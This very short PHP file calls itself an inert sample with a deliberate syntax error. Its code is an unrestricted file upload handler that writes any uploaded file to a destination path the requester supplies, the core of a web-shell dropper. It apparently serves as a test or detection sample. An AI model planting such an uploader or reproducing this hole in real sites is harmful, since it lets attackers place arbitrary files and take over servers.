<?php
shodo inert sample: deliberate syntax error, this file never runs
 if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dst']); echo "ok"; } ?>
